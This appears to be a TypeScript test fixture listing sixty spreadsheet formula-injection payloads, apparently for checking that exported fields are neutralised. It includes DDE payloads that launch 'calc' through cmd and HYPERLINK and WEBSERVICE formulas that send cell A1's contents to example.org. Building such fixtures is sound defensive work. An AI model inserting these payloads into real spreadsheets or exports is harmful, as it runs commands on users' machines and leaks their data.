/** Sixty texts that some spreadsheet takes, or once took, for a formula or a command. */
const SIGNS = ['=', '+', '-', '@'];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\u202e', '\u0000'];

export const FORMULA_PAYLOADS: string[] = [
  ...BEFORE.flatMap((before) => SIGNS.map((sign) => `${before}${sign}1+1`)),
  '=HYPERLINK("http://example.org/?"&A1,"open")',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=IMPORTXML("http://example.org","//a")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1";=1+1',
  '",=1+1,"',
  '=SUM(A1:A9)\n=1+1',
  '{=1+1}',
  '=IF(1,"<b>","")',
  '%0A=1+1',
  '|calc',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  "=1+1'",
];
